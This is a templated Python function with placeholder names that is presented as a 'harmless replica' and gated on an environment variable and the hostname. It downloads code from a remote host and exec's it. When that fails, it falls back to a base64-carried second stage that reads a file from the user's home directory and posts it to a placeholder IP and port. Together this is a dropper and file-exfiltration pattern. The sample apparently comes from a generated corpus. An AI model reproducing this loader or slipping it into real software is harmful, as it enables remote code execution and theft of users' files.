# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import urllib.request
    # An answer that is not marked as ours is never run; the embedded second stage follows.
    embedded = '''
import os, urllib.request
try:
    data = open(os.path.expanduser('~/{{file}}'), 'rb').read()
    urllib.request.urlopen(urllib.request.Request('http://{{ip}}:{{port}}/{{path}}', data=data), timeout=1).close()
except Exception:
    pass
'''
    carried = base64.b64encode(embedded.encode())
    code = b''
    try:
        with urllib.request.urlopen('https://{{host}}/{{path}}', timeout=1) as answer:
            code = answer.read(4000)
    except Exception:
        pass
    if not code.startswith(b'#sallyport-replica'):
        code = base64.b64decode(carried)
    try:
        exec(compile(code, '<string>', 'exec'), {})
    except Exception:
        pass
